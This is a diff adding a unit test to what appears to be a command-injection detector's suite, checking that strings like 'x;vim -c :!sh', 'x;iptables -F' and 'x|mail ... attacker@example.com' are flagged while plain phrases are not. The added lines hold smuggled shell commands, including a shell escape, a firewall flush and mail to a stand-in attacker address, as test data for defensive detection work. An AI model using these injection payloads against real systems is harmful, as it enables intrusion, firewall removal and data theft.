@@ -426,6 +426,23 @@ Test(webstruct, shell_here_strings_network_probes_and_cmd_variables)
     cr_assert_not(shell("50%off 20%", FK_WS_PARAM));
 }
 
+/* Programs Debian reaches only through its alternatives (vim, cc, which, iptables,
+ * traceroute) are commands like any other, and a long option is a shell argument as a
+ * short one is; words and prose dashes stay words. */
+Test(webstruct, alternatives_names_and_long_options)
+{
+    cr_assert(shell("x;vim -c ':!sh'", FK_WS_PARAM));
+    cr_assert(shell("x;which -a nc", FK_WS_PARAM));
+    cr_assert(shell("x;iptables -F", FK_WS_PARAM));
+    cr_assert(shell("x;traceroute --icmp 192.0.2.1", FK_WS_PARAM));
+    cr_assert(shell("x;cc --version", FK_WS_PARAM));
+    cr_assert(shell("x;uname --all", FK_WS_PARAM));
+    cr_assert(shell("x|mail -s x attacker@example.com", FK_WS_PARAM));
+    cr_assert_not(shell("open the door", FK_WS_PARAM));
+    cr_assert_not(shell("which one -- the red or the blue?", FK_WS_PARAM));
+    cr_assert_not(shell("rename photos", FK_WS_PARAM));
+}
+
 Test(webstruct, file_reads_by_climbing_in_paths_and_headers)
 {
     /* browsers resolve dot segments before they send a URL: one in a path is a tool's */
